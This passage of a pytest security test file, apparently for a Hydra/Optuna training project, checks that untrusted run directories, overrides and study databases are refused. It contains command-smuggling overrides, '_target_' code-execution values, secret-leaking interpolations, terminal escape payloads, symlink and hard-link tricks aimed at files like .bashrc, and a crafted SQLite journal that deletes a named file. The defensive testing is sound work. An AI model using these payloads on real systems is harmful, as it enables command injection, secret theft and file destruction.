        '{"overrides": [], "metrics": {}, "status": 5}', '{"metrics": {}, "status": "finished"}',
    ],
)  # fmt: skip
def test_invalid_result_json_gives_one_line(text: str, tmp_path: Path) -> None:
    (tmp_path / "result.json").write_text(text)
    with pytest.raises(ValueError, match=r"result.json is damaged or not of this project"):
        read_result(tmp_path)


def test_command_of_a_result_is_rebuilt_from_quoted_overrides(tmp_path: Path) -> None:
    result = {
        "command": "python train.py; touch pwned",
        "overrides": ["name=x; touch pwned"],
        "metrics": {},
        "status": "x",
    }
    (tmp_path / "result.json").write_text(json.dumps(result))
    assert read_result(tmp_path)["command"] == "python train.py 'name=x; touch pwned'"


@pytest.mark.parametrize(
    "override",
    [
        "+callbacks.x._target_=os.mkdir", "++model.net._target_=torch.nn.functional.torch.load", "logger._target_=os.x",
        "+callbacks.x={_target_:os.mkdir,path:x}", "+callbacks.x={ '_target_' : os.mkdir}", "model._args_=[x]",
        "+model.net={_recursive_:false}", "+model._convert_.x=1", "~model._target_", "name=${oc.env:SECRET}",
        "callbacks=../../gift/evil", "callbacks=[default,/gift/evil]", "callbacks=/gift/evil", "callbacks='/evil'",
        "+callbacks@model=default", "callbacks.pictures[_target_]=os.mkdir", "data/base=x", "--config-dir=gift", "-m",
        "hydra.run.dir=/home", "hydra/launcher=joblib", "+hydra.callbacks.x._target_=os.mkdir", "resume=mine", "seed",
        "sweep_resume=mine", "+seed", "logger=~/x", "experiment=file://gift/x", r"+data.x=$\{oc.env:SECRET}",
        r"+callbacks.x=$\{oc.decode:\\\{_$\{aa\}_:os.mkdir\\\,path:x\\\}\}", r"+data.x=['$\\{x}']",
        "+trainer.profiler.dirpath=/home/x", "trainer.profiler.filename=x",
    ],
)  # fmt: skip
def test_command_that_would_run_something_is_not_shown(override: str, tmp_path: Path) -> None:
    """Users paste the command of the best job, whose overrides are those of its result.json."""
    best = {"overrides": ["seed=1", override], "metrics": {"val/acc": 0.9}, "status": "finished"}
    write_result(tmp_path / "0-0123abcd", best)
    write_result(tmp_path / "1-0123abcd", best | {"overrides": ["seed=2"], "metrics": {"val/acc": 0.8}})
    summary = Summary(tmp_path)
    summary.write()
    assert re.search(r"best: its command is not shown: ['\"]", str(summary))
    assert "python train.py" not in str(summary) + (tmp_path / "summary.md").read_text()


def test_stored_command_of_a_resumed_run_is_checked(untrusted: Path) -> None:
    """Resuming writes a new result.json, with the overrides in the checkpoint."""
    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
    config["choices"]["overrides"] = ["+callbacks.x._target_=os.mkdir"]
    assert RunSummary(Path(), config, None, []).result["command"].startswith("python train.py")  # typed
    config["resume"] = "outputs/untrusted"
    shown = RunSummary(Path(), config, None, []).result["command"]
    assert shown == "its command is not shown: '+callbacks.x._target_=os.mkdir' could run anything"


def test_command_of_usual_overrides_is_shown(tmp_path: Path) -> None:
    overrides = [
        "experiment=mnist_99", "~callbacks.pictures", "++trainer.max_epochs=3", "callbacks.early_stopping=null",
        "+metrics.auroc._target_=torchmetrics.classification.MulticlassAUROC", "optimizer.betas=[0.9,0.99]",
        "model.net._target_=lit_models.nets.MLP", "monitor=val/acc", "data.path=/home/me/../it's/x y.csv", "name=a/b",
    ]  # fmt: skip
    write_result(tmp_path / "0-0123abcd", {"overrides": overrides, "metrics": {"val/acc": 1}, "status": "finished"})
    assert f"best: {train_command(overrides)}\n" in f"{Summary(tmp_path)}\n"


def test_traceback_live_line_and_logs_have_no_control_characters(capsys) -> None:
    print_error(ValueError(f"{ESCAPE} is wrong"), show_traceback=True)
    error = capsys.readouterr().err
    assert error.startswith("ValueError: \\x1b]0;pwned\\x07 is wrong\nerror: \\x1b]0;")
    bar = ProgressBar()
    bar._live = True
    bar._write(f"epoch 1/2  {ESCAPE} 0.5")
    assert capsys.readouterr().err == "\repoch 1/2  \\x1b]0;pwned\\x07 0.5\x1b[K"
    settings = yaml.safe_load((PROJECT / "conf/hydra/job_logging/run.yaml").read_text())
    assert settings["handlers"].keys() == {"console", "file"}
    for handler in settings["handlers"].values():
        made = logging.config.DictConfigurator(settings).configure_formatter(
            settings["formatters"][handler["formatter"]]
        )
        record = logging.LogRecord("x", logging.INFO, "", 1, "%s", (f"{ESCAPE}\ta\nb",), None)
        assert made.format(record).endswith("\\x1b]0;pwned\\x07\ta\nb")


@pytest.mark.slow
def test_printed_text_has_no_control_characters(shell, untrusted: Path) -> None:
    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "seed", value="\x1b[2J")
    answer = shell("run=outputs/untrusted", script="evaluate.py", cwd=untrusted)
    assert answer.returncode == 1 and "\\x1b[2J" in answer.stderr and "\x1b" not in answer.stderr + answer.stdout
    record = logging.LogRecord("name", logging.INFO, "path", 1, "\x1b[2J%s", ("x\r",), None)
    assert PrintableFormatter("%(message)s").format(record) == "\\x1b[2Jx\\r"
    assert printable("a\x1b[2Jb\u202e\r\n\t图片", keep="\n\t") == "a\\x1b[2Jb\\u202e\\r\n\t图片"


@pytest.mark.slow
@pytest.mark.parametrize("name", ["${oc.env:SECRET}", "${new_or_resumed_run_dir:null,pwned}", "???", "\\${x}"])
def test_class_directory_name_is_never_evaluated(name: str, shell, tmp_path: Path) -> None:
    for folder in (name, "other"):
        (tmp_path / "images" / folder).mkdir(parents=True)
        for number in range(6):
            Image.new("RGB", (28, 28)).save(tmp_path / "images" / folder / f"{number}.png")
    answer = shell("data=image_folder", "data.root=images", "model=mlp", "trainer.accelerator=cpu", SECRET=SECRET)
    assert answer.returncode == 1
    assert answer.stderr.startswith("error: ") and "cannot be used as a name" in answer.stderr
    assert SECRET not in answer.stdout + answer.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["images"]


# --- links and special files in run and sweep directories --------------------------------------------------------


@pytest.mark.parametrize("name", ["train.log", "evaluate.log", "checkpoints", "evaluations", "predictions", "pictures"])
def test_link_out_of_a_run_is_refused(name: str, untrusted: Path) -> None:
    """A command would write into a file of the user's, such as one that a shell reads when it starts."""
    (target := untrusted.parent / "home").mkdir()
    link = Path("outputs/untrusted", name)
    if name == "checkpoints":
        link.rename(target / name)
    elif name.endswith(".log"):
        (target / name).write_text("mine\n")
    else:
        (target / name).mkdir()
    link.symlink_to(target / name)
    with pytest.raises(ValueError, match=r"is refused: it is a link to .*, outside of "):
        find_checkpoint("outputs/untrusted")
    if name != "checkpoints":  # the path of a checkpoint file is used as it is
        with pytest.raises(ValueError, match=r"is refused: it is a link to .*, outside of "):
            find_checkpoint("outputs/untrusted/checkpoints/last.ckpt")


def test_link_within_a_run_is_followed(untrusted: Path) -> None:
    Path("outputs/untrusted/checkpoints/last.ckpt").rename("outputs/untrusted/old.ckpt")
    Path("outputs/untrusted/checkpoints/last.ckpt").symlink_to("../old.ckpt")
    assert find_checkpoint("outputs/untrusted")[1].is_file()


@pytest.mark.parametrize("name", ["checkpoints", "pictures", "evaluations", "train.log", ".lock"])
def test_what_is_written_into_is_no_link_into_a_run_within_the_run(name: str, untrusted: Path) -> None:
    """Two trainings, each with its own lock, would write the checkpoints of one."""
    inner = Path(shutil.copytree("outputs/untrusted", "outputs/untrusted/inner"))
    (inner / name).mkdir(exist_ok=True) if "." not in name else (inner / name).touch()
    shutil.rmtree(link := Path("outputs/untrusted", name), ignore_errors=True)
    link.unlink(missing_ok=True)
    link.symlink_to(f"inner/{name}")
    with pytest.raises(ValueError, match=f"untrusted/{name} is refused: it is a link, and commands write into it"):
        find_checkpoint("outputs/untrusted")
    assert find_checkpoint("outputs/untrusted/inner")[1].is_file()


@pytest.mark.parametrize(
    "name", ["ev/projector_config.pbtxt", "ev/2/a/metadata.tsv", "metrics.csv", ".lock", "pictures/loss.png", "x"]
)
@pytest.mark.parametrize("kind", ["link", "dangling link", "link to a directory", "fifo"])
def test_link_or_special_file_anywhere_in_a_run_is_refused(name: str, kind: str, untrusted: Path) -> None:
    """The run's dashboard.txt may name any directory in it, whose files TensorBoard's projector overwrites."""
    path = Path("outputs/untrusted", name)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    (target := untrusted.parent / "thesis").mkdir()
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to({"link": __file__, "dangling link": target / "new"}.get(kind, target))
    reason = "neither a file nor a directory" if kind == "fifo" else f"a link to {os.readlink(path)}, outside of "
    for run in ("outputs/untrusted", "outputs/untrusted/checkpoints/last.ckpt"):
        with pytest.raises(ValueError, match=f"{path.name} is refused: it is {reason}"):
            find_checkpoint(run)


@pytest.mark.parametrize("name", ["evaluations/a/link", ".lock", "evaluate.log", "checkpoints/link"])
def test_what_is_written_beside_a_checkpoint_alone_is_checked(name: str, untrusted: Path) -> None:
    (folder := Path("alone")).mkdir()
    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", folder / "mine.ckpt")
    (folder / "elsewhere").symlink_to(untrusted.parent)  # of the user's, as any other file
    (folder / "data").mkdir()
    (folder / "data" / "set").symlink_to("/")
    assert find_checkpoint("alone/mine.ckpt")[0].name == "alone"
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).symlink_to(untrusted.parent / "home")
    with pytest.raises(ValueError, match=r"is refused: it is a link to .*home, outside of "):
        find_checkpoint("alone/mine.ckpt")


@pytest.mark.parametrize("name", [".study.lock", ".worker-0123456789ab.lock", "study.db"])
def test_lock_of_a_sweep_that_is_a_link_is_refused(name: str, tmp_path: Path) -> None:
    (tmp_path / "sweep").mkdir()
    (tmp_path / "sweep" / name).symlink_to("../home")
    with pytest.raises(ValueError, match=r"it is a link to \.\./home, outside of "):
        new_or_resumed_sweep_dir("sweep", "unused")


def test_run_in_the_working_directory_holds_outputs_last(untrusted: Path) -> None:
    """With hydra.run.dir=. the link outputs/last is in the run that it points at."""
    shutil.rmtree("outputs/untrusted/pictures", ignore_errors=True)
    os.chdir("outputs/untrusted")
    Path("outputs").mkdir()
    Path("outputs/last").symlink_to("..")
    assert find_checkpoint("last") == find_checkpoint(".")


@pytest.mark.parametrize("given", ["gift/model.ckpt", "gift/checkpoints/last.ckpt", "linked/checkpoints/last.ckpt"])
def test_checkpoint_that_is_a_link_into_another_run_is_refused(given: str, untrusted: Path) -> None:
    """To resume it would continue that run."""
    file = Path("outputs/untrusted/checkpoints/last.ckpt").resolve()
    Path("gift/checkpoints").mkdir(parents=True)
    for link in ("gift/model.ckpt", "gift/checkpoints/last.ckpt"):
        Path(link).symlink_to(os.path.relpath(file, Path(link).parent))
    Path("linked").mkdir()
    Path("linked/checkpoints").symlink_to("../outputs/untrusted/checkpoints")
    with pytest.raises(ValueError, match=f"{given} is refused: it is a link to {file}; name that file itself"):
        find_checkpoint(given)


def test_link_to_a_checkpoint_beside_it_or_to_its_run_is_followed(untrusted: Path) -> None:
    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", "mine.ckpt")
    Path("newest.ckpt").symlink_to("mine.ckpt")
    Path("run").symlink_to("outputs/untrusted")
    assert find_checkpoint("newest.ckpt")[1].name == "mine.ckpt"
    assert find_checkpoint("run/checkpoints/last.ckpt") == find_checkpoint("outputs/untrusted")


def test_log_that_is_a_fifo_is_refused(untrusted: Path) -> None:
    os.mkfifo("outputs/untrusted/train.log")
    with pytest.raises(ValueError, match="it is neither a file nor a directory"):
        find_checkpoint("outputs/untrusted")


@pytest.mark.parametrize("made_by", ["multirun.yaml", "study.db"])
@pytest.mark.parametrize("name", ["outputs", "1-0123abcd/train.log", "notes/link"])
def test_link_out_of_a_sweep_is_refused(made_by: str, name: str, tmp_path: Path) -> None:
    """In a sweep that is the working directory, event files go to outputs/."""
    (link := tmp_path / "gift" / name).parent.mkdir(parents=True)
    (tmp_path / "home").mkdir()
    if made_by == "study.db":
        open_study(tmp_path / "gift")
    else:
        (tmp_path / "gift/multirun.yaml").write_text("hydra: {}\nsweep_resume: null\n")
    (tmp_path / "gift/outputs").mkdir(exist_ok=True)
    (tmp_path / "gift/outputs/last_sweep").symlink_to("..")
    os.chdir("gift")
    for use in (lambda: new_or_resumed_sweep_dir(".", "unused"), lambda: check_sweep_dir(Path())):
        use()
    if link.is_dir():
        shutil.rmtree(link)
    link.symlink_to(tmp_path / "home")
    for use in (lambda: new_or_resumed_sweep_dir(".", "unused"), lambda: check_sweep_dir(Path())):
        with pytest.raises(ValueError, match=f"{name} is refused: it is a link to {tmp_path}/home, outside of "):
            use()


def test_log_with_another_name_is_replaced_by_a_copy(tmp_path: Path) -> None:
    """A tar file may hold hard links: the log of a run would be a file that a shell reads when it starts."""
    (home := tmp_path / ".bashrc").write_text("mine\n")
    home.chmod(0o600)
    (log := tmp_path / "evaluate.log").hardlink_to(home)
    settings = yaml.safe_load((PROJECT / "conf/hydra/job_logging/run.yaml").read_text())["handlers"]["file"]
    handler: Any = pkgutil.resolve_name(settings["class"])(log, delay=True)
    handler.begin()
    handler.emit(logging.makeLogRecord({"msg": "ours"}))
    handler.close()
    assert (home.read_text(), log.read_text()) == ("mine\n", "mine\nours\n")
    assert log.stat().st_mode == home.stat().st_mode
    assert relative_paths(tmp_path) == {".bashrc", "evaluate.log"}


def test_projector_writes_into_no_file_with_another_name(untrusted: Path) -> None:
    names = ["projector_config.pbtxt", "00001/points/metadata.tsv", "00001/points/tensors.tsv"]
    Path("outputs/untrusted/dashboard.txt").write_text("outputs/untrusted/events\n")
    for name in names:
        (path := Path("outputs/untrusted/events", name)).parent.mkdir(parents=True, exist_ok=True)
        (mine := untrusted.parent / path.name).write_text("mine\n")
        path.hardlink_to(mine)
    logger = TensorBoard("outputs/untrusted", title="a/b")
    logger.log_embedding("points", torch.zeros(3, 2), ["a", "b", "c"], None, 1)
    logger.finalize("success")
    for name in names:
        assert Path("outputs/untrusted/events", name).stat().st_nlink == 1
        assert (untrusted.parent / Path(name).name).read_text() == "mine\n"


@pytest.mark.parametrize("name", ["study.db", "study.db-journal"])
def test_study_with_another_name_is_refused(name: str, tmp_path: Path) -> None:
    """SQLite writes into these files, and the other one may be the study of another sweep."""
    (tmp_path / "gift").mkdir()
    open_study(mine := tmp_path)
    if name != "study.db":
        (mine / name).touch()
    (tmp_path / "gift" / name).hardlink_to(mine / name)
    for refuse in (open_study, check_sweep_dir):
        with pytest.raises(ValueError, match=f"gift/{name} is refused: it is a hard link to a file that has other nam"):
            refuse(tmp_path / "gift")
    shutil.copytree(tmp_path / "gift", tmp_path / "copy")
    check_sweep_dir(tmp_path / "copy")


def test_job_directory_that_is_a_link_out_of_the_sweep_is_refused(tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "sweep").mkdir()
    cfg = OmegaConf.create({"seed": 1})
    name = job_dir("sweep", 0, _root_=cfg)
    Path("sweep", name).rmdir()
    Path("sweep", name).symlink_to("../home")
    with pytest.raises(ValueError, match="outside of the sweep"):
        job_dir("sweep", 0, _root_=cfg)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["study.db", "multirun.yaml"])
def test_link_out_of_a_sweep_is_not_written_through(name: str, shell, tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine\n")
    (tmp_path / "sweep").mkdir()
    (tmp_path / "sweep" / name).symlink_to("../mine")
    answer = shell("-m", *TINY, "seed=1", "trainer.max_epochs=1", "logger=none", "sweep_resume=sweep")
    assert answer.returncode == 1 and len(answer.stderr.splitlines()) == 1, answer.stderr
    assert (tmp_path / "mine").read_text() == "mine\n"


@pytest.mark.parametrize("name", ["{home}", "../home", "home/../../home", 5, ["x"], ".worker-0123456789ab.lock/../x"])
def test_worker_name_of_a_trial_is_not_used_as_a_path(name: Any, tmp_path: Path) -> None:
    """A trial stores the name of its worker's lock file, which is removed when the worker is gone."""
    (tmp_path / "sweep").mkdir()
    home = tmp_path / "home"
    home.write_text("mine\n")
    study = open_study(tmp_path / "sweep", direction="maximize")
    space = {"optimizer.lr": FloatDistribution(0.1, 1)}
    study.ask(space).set_user_attr("worker", name.format(home=home) if isinstance(name, str) else name)
    sweeper = OptunaSweeper({}, "val/acc", "maximize", n_trials=1, startup_trials=1, seed=1)
    sweeper.space, sweeper.at_once = space, 1
    assert [trial.number for trial in sweeper._next_trials(study, tmp_path / "sweep", "me")] == [0]
    assert home.read_text() == "mine\n"


@pytest.mark.parametrize("given", ["./???", "link", "???"])
def test_directory_named_like_a_missing_value_keeps_its_name(given: str, monkeypatch: pytest.MonkeyPatch) -> None:
    Path("???").mkdir()
    Path("link").symlink_to("???")
    monkeypatch.setenv("DATA_ROOT", "???")
    cfg = OmegaConf.create({"sweep": new_or_resumed_sweep_dir(given, "unused"), "root": data_root()})
    assert (cfg.sweep, cfg.root) == ("./???", "./???")


@pytest.mark.parametrize("command", ["evaluate", "predict", "export"])
@pytest.mark.parametrize("override", ["hydra.run.dir=b", "+hydra.sweep.dir=b", "hydra.sweep.subdir=b"])
def test_only_a_training_takes_a_directory(override: str, command: str) -> None:
    """The others would write into it as if it were that of their run."""
    check_hydra_settings([override], "train")
    with pytest.raises(ValueError, match=f"is refused: {command} chooses its directory itself"):
        check_hydra_settings([override], command)


@pytest.mark.parametrize("command", ["train", "predict"])
@pytest.mark.parametrize(
    "override",
    [
        *("hydra={output_subdir:.}", "++hydra={run:{dir:b}}", "hydra.run={dir:b}", "+hydra.run={dir:b}", "~hydra.run"),
        *("hydra.sweep={subdir:a/b}", "hydra.job={name:../x}", "hydra.sweeper={params:{}}", "hydra.run=${x}"),
        *("hydra.callbacks=null", "hydra.job_logging={handlers:{}}", "~hydra", "hydra.run= {dir:b}"),
        *("hydra.sweep={dir:a},{dir:b}", "++hydra.runtime={output_dir:b}"),
        *("trainer={max_epochs:-5}", "+data={root:x}", "logger={wandb:{api_key:x}}", "model={net:{a:1}},{net:{a:2}}"),
        "callbacks@callbacks={judge:null}",
    ],
)
def test_settings_of_a_group_are_typed_one_by_one(override: str, command: str) -> None:
    """Among several in braces none would be checked."""
    with pytest.raises(ValueError, match=r"is refused: .* typed one by one, \w.*\.NAME=VALUE") as refused:
        check_hydra_settings(["-m", override], command)
    assert str(refused.value).startswith(f"{override} is refused: ")


@pytest.mark.parametrize("name", ["hydra.output_subdir", "hydra.job.chdir", "++hydra.run.dir"])
@pytest.mark.parametrize("override", ["+hydra.sweeper.params.{}=x", "++hydra.sweeper.params={{{}:x}}"])
def test_jobs_of_a_sweep_take_no_settings_of_hydra(override: str, name: str) -> None:
    with pytest.raises(ValueError, match="is refused: the settings of Hydra are those of the whole sweep"):
        check_hydra_settings(["-m", override.format(name)], "train")


@pytest.mark.parametrize(
    "override",
    [
        *("hydra/job_logging=default", "+hydra/job_logging@hydra.job_logging=[default]", "hydra/job_logging=colorlog"),
        "hydra/hydra_logging=hydra_debug",
    ],
)
def test_no_log_is_opened_before_anything_is_checked(override: str) -> None:
    with pytest.raises(ValueError, match=r"is refused: it writes a log before anything is checked"):
        check_hydra_settings([override], "train")


@pytest.mark.parametrize(
    "override",
    [
        "hydra.job_logging.handlers.file.filename=notes.txt",
        "++hydra.hydra_logging.handlers.x={class:logging.FileHandler}",
    ],
)
def test_log_is_that_of_the_run(override: str) -> None:
    with pytest.raises(ValueError, match=r"is refused: a log is that of its run"):
        check_hydra_settings([override], "train")


@pytest.mark.parametrize("sweep", [["-m"], ["--multirun"], ["hydra.mode=MULTIRUN"]])
def test_sweep_is_asked_for_in_three_ways(sweep: list[str]) -> None:
    with pytest.raises(ValueError, match="debug=lr proposes a rate for one run"):
        check_hydra_settings(["model=cnn", *sweep, "debug=lr"], "train")
    with pytest.raises(ValueError, match="resume=auto is for a run"):
        resolve_auto(["resume=auto", *sweep, "hydra.run.dir=run"])
    check_hydra_settings(["hydra.mode=RUN", "debug=lr"], "train")


@pytest.mark.parametrize(
    "override",
    [
        *("hydra/job_logging=none", "hydra/job_logging=stdout", "hydra/job_logging=disabled", "hydra/job_logging=run"),
        *("hydra.verbose=true", "hydra.mode=MULTIRUN", "hydra.searchpath=[file:///x]", "hydra.launcher.n_jobs=2"),
        *("hydra.job.env_set={A:b}", "hydra.sweeper.params={optimizer.lr:'0.1,0.2'}", "+hydra.sweeper.params.seed=1,2"),
        *("hydra.callbacks.mine={_target_:mine.Mine}", "hydra/launcher=joblib", "hydra.job_logging.root.level=DEBUG"),
        *("model=${oc.env:MODEL}", "metrics.f1={_target_:x.F1}", "logger=[csv,mlflow]", "expect={a:{}}", ""),
    ],
)
def test_other_settings_of_hydra_are_taken(override: str) -> None:
    check_hydra_settings(["-m", override, "--cfg", "hydra", "--package", "hydra.run"], "train")


@pytest.mark.parametrize("override", ["hydra.run.dir= ", "hydra.sweep.dir=' '"])
def test_directory_without_a_name_is_refused(override: str) -> None:
    with pytest.raises(ValueError, match="names no directory"):
        check_hydra_settings([override], "train")


@pytest.mark.parametrize("override", ["hydra.run.dir=???", "++hydra.sweep.dir='???'", 'hydra.run.dir="???"'])
def test_missing_directory_of_a_run_is_refused(override: str, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    """Hydra would use a directory named None."""
    monkeypatch.setattr(sys, "argv", ["train.py", override])
    with pytest.raises(SystemExit):
        _rewrite_argv("train")
    assert capsys.readouterr().err == f"error: {override} is refused: ??? is no value, and ./??? a directory\n"


@pytest.mark.parametrize(
    "override", ["hydra.run.dir=file:///x", "++hydra.sweep.dir='s3://x'", "hydra.sweep.subdir=a://b"]
)
def test_directory_of_a_run_that_is_a_url_is_refused(override: str, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    """Hydra would make a directory named ``file:``."""
    monkeypatch.setattr(sys, "argv", ["train.py", override])
    with pytest.raises(SystemExit):
        _rewrite_argv("train")
    assert capsys.readouterr().err == f"error: {override} is refused: it is not a directory on this machine\n"


# --- the study of a sweep from elsewhere --------------------------------------------------------------------------

JOURNAL_MAGIC = bytes.fromhex("d9d505f920a163d7")


def write_super_journal(database: Path, victim: str) -> None:
    """Write a journal beside a database that SQLite rolls back, and then deletes the file that the journal names."""
    page, name = 4096, victim.encode()
    header = JOURNAL_MAGIC + struct.pack(">5I", 0, 0, database.stat().st_size // page, 512, page)
    end = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + JOURNAL_MAGIC
    Path(f"{database}-journal").write_bytes(header.ljust(512, b"\0") + end)


def test_journal_that_names_a_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "mine").write_text("mine\n")
    open_study(tmp_path)
    write_super_journal(tmp_path / "study.db", str(tmp_path / "mine"))
    for refuse in (open_study, check_sweep_dir):
        with pytest.raises(
            ValueError, match=r"study\.db-journal is refused: it names a file, which SQLite would delete"
        ):
            refuse(tmp_path)
    assert (tmp_path / "mine").read_text() == "mine\n"
    with sqlite3.connect(tmp_path / "study.db") as database:
        database.execute("SELECT * FROM studies")
    assert not (tmp_path / "mine").exists()  # the journal is one that SQLite obeys


def test_mistyped_sweep_deletes_no_file(shell, tmp_path: Path) -> None:
    """The summary of a sweep reads the study, whatever its jobs are."""
    (tmp_path / "gift").mkdir()
    (tmp_path / "mine").write_text("mine\n")
    open_study(tmp_path / "gift")
    write_super_journal(tmp_path / "gift/study.db", "mine")
    before = relative_paths(tmp_path)
    answer = shell("-m", "seed=abc", "sweep_resume=gift")
    assert (answer.returncode, answer.stderr) == (
        1, "error: gift/study.db-journal is refused: it names a file, which SQLite would delete\n"
    )  # fmt: skip
    assert relative_paths(tmp_path) == before


def test_journal_of_a_killed_search_is_rolled_back(tmp_path: Path) -> None:
    study = open_study(tmp_path, direction="maximize")
    study.ask({"optimizer.lr": FloatDistribution(0.1, 1)})
    killed = """if True:
        import os, sqlite3, sys
        database = sqlite3.connect(sys.argv[1])
        database.execute("PRAGMA cache_size = 1")  # so that changed pages are written before the commit
        database.execute("UPDATE trials SET state = 'FAIL'")
        database.executemany("INSERT INTO trial_user_attributes (key) VALUES (?)", [["x" * 100]] * 2000)
        os._exit(9)
    """
    subprocess.run([sys.executable, "-c", killed, str(tmp_path / "study.db")], check=False)
    assert (tmp_path / "study.db-journal").stat().st_size > 0
    (trial,) = open_study(tmp_path).trials
    assert (trial.state, trial.user_attrs) == (TrialState.RUNNING, {})
    assert not (tmp_path / "study.db-journal").exists()


STRANGE = ["link", "dangling link", "fifo", "directory"]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        *itertools.product(["study.db", "study.db-journal", "study.db-wal", "study.db-shm"], STRANGE),
        *itertools.product(["study.db-wal", "study.db-shm"], ["file"]),  # a search has none
    ],
)
def test_strange_file_beside_a_study_is_refused(name: str, kind: str, tmp_path: Path) -> None:
    (tmp_path / "sweep").mkdir()
    (tmp_path / "mine").write_text("mine\n")
    if name != "study.db":
        open_study(tmp_path / "sweep")
    path = tmp_path / "sweep" / name
    if kind.endswith("link"):
        path.symlink_to("../mine" if kind == "link" else "../new")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    else:
        path.touch()
    for refuse in (open_study, check_sweep_dir):
        with pytest.raises(ValueError, match=f"{name} is refused: it is "):
            refuse(tmp_path / "sweep")
    assert (tmp_path / "mine").read_text() == "mine\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "sweep"]


@pytest.mark.parametrize(
    "name", ["..%2Fhome%2Fmine?", "a?b=c", "a%20b#c", "{SCHEMA_VERSION}", "{", 'a\'b "c" d;e', "file:x?mode=memory"]
)
def test_study_lies_in_its_sweep_whatever_the_name_of_the_directory(name: str, tmp_path: Path) -> None:
    (tmp_path / "home").mkdir()
    (tmp_path / "sweep" / name).mkdir(parents=True)
    before = relative_paths(tmp_path)
    study = open_study(Path("sweep", name), direction="minimize")
    study.ask()
    open_trial(study, Path("sweep", name), 0).set_user_attr("worker", "a")
    assert open_study(Path("sweep", name)).trials[0].user_attrs == {"worker": "a"}
    assert relative_paths(tmp_path) - before == {f"sweep/{name}/study.db"}


def foreign_study(file: Path) -> None:
    """A study of the user's that has the name of ours, with a trial that is running."""
    optuna.logging.set_verbosity(optuna.logging.ERROR)
    study = optuna.create_study(storage=f"sqlite:///{file}", study_name="search")
    study.optimize(lambda trial: trial.suggest_float("x", 0, 1), n_trials=2)
    study.ask()


def run_sql(*statements: str) -> Callable[[Path], None]:
    def run(file: Path) -> None:
        with contextlib.closing(sqlite3.connect(file)) as database:
            for statement in statements:
                database.execute(statement)
            database.commit()

    return run


FOREIGN: dict[str, Callable[[Path], None]] = {
    "a table": run_sql("CREATE TABLE notes (text)", "INSERT INTO notes VALUES ('mine')"),
    "an odd table": run_sql('CREATE TABLE "a""b; --" (text)', 'INSERT INTO "a""b; --" VALUES (\'mine\')'),
    "another study": foreign_study,
    "a view": run_sql("CREATE VIEW studies AS SELECT 1"),
    "a trigger": run_sql("CREATE TABLE t (x)", "CREATE TRIGGER u AFTER INSERT ON t BEGIN DELETE FROM t; END"),
}


@pytest.mark.parametrize("make", FOREIGN.values(), ids=FOREIGN)
def test_study_of_the_user_is_refused(make: Callable[[Path], None], tmp_path: Path) -> None:
    make(file := tmp_path / "study.db")
    before = file.read_bytes()
    for refuse in (open_study, check_sweep_dir):
        with pytest.raises(ValueError, match=r"study\.db is refused: it is not the study of a search of this project"):
            refuse(tmp_path)
    assert file.read_bytes() == before
    assert relative_paths(tmp_path) == {"study.db"}


def test_own_study_is_opened_again(tmp_path: Path) -> None:
    """After a kill while it was created too, and from an earlier version, which did not mark it."""
    for number, statement in enumerate(("DELETE FROM trials", "DELETE FROM study_user_attributes")):
        (folder := tmp_path / str(number)).mkdir()
        trial = open_study(folder, direction="maximize").ask()
        trial.set_user_attr("worker", ".worker-0123456789ab.lock")
        run_sql(statement)(folder / "study.db")
        assert open_study(folder).direction.name == "MAXIMIZE"
    for number, statements in enumerate([(), ("CREATE TABLE studies (study_id, study_name)",)], 2):
        (folder := tmp_path / str(number)).mkdir()
        run_sql(*statements)(folder / "study.db")
        check_sweep_dir(folder)


def test_name_of_a_parameter_is_printed_without_control_characters(tmp_path: Path, capsys) -> None:
    (folder := tmp_path / "a\x1b[31mred").mkdir()
    study = open_study(folder, direction="maximize")
    evil, distribution = "\x1b]0;pwned\x07\nresume with: x", FloatDistribution(0, 1)
    for number in range(8):
        params = {evil: number / 10, "b": number * 7 % 10 / 10}
        distributions = dict.fromkeys(params, distribution)
        study.add_trial(create_trial(params=params, distributions=distributions, value=number / 10))
    write_result(folder / "0-0123abcd", {"overrides": ["seed=1"], "metrics": {"val/acc": 0.5}, "status": "finished"})
    cfg = OmegaConf.create({"hydra": {"sweep": {"dir": str(folder)}}})
    SweepSummary().on_multirun_end(cfg)
    printed = capsys.readouterr()
    assert "\\x1b]0;pwned\\x07\\nresume with: x" in printed.out and "a\\x1b[31mred" in printed.out
    assert "\x1b" not in printed.out + printed.err + (folder / "summary.md").read_text()


# --- files in a sweep that other programs would run ---------------------------------------------------------------


def test_each_command_has_a_submitit_folder_of_its_own(tmp_path: Path) -> None:
    """Submitit unpickles the results that it finds in its folder."""
    folders = set()
    for given in ("${hydra.sweep.dir}/.submitit/%j", "${hydra.sweep.dir}/.submitit/%j", "mine/%j"):
        hydra = {"sweep": {"dir": "sweep"}, "launcher": {"submitit_folder": given}}
        cfg = OmegaConf.create({"hydra": hydra})
        OmegaConf.set_readonly(cfg.hydra, True)
        RecordDirs().on_multirun_start(cfg)
        folders.add(cfg.hydra.launcher.submitit_folder)
    assert len(folders) == 3 and "mine/%j" in folders
    assert all(re.fullmatch(r"sweep/\.submitit/[0-9a-f]{16}/%j", folder) for folder in folders - {"mine/%j"})


@pytest.mark.slow
@pytest.mark.parametrize(("package", "launcher"), [("joblib", "joblib"), ("submitit", "submitit_local")])
def test_package_in_a_sweep_is_not_imported(package: str, launcher: str, shell, tmp_path: Path) -> None:
    (tmp_path / "gift" / package).mkdir(parents=True)
